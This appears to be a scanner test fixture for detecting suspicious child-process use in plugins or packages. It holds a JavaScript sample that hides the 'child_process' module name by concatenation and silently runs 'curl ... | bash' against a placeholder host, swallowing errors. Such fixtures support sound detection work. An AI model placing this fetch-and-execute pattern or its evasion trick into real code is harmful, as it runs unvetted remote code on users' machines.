// expect: category=child-process min=95 context=plugin,package
// why: the module name is concatenated to dodge a literal match; execSync runs a download.
const cp = require('child' + '_' + 'process');
const cmd = ['curl', '-s', 'https://dl.example/p', '|', 'bash'].join(' ');

try {
  cp.execSync(cmd, { stdio: 'ignore' });
} catch (e) {}
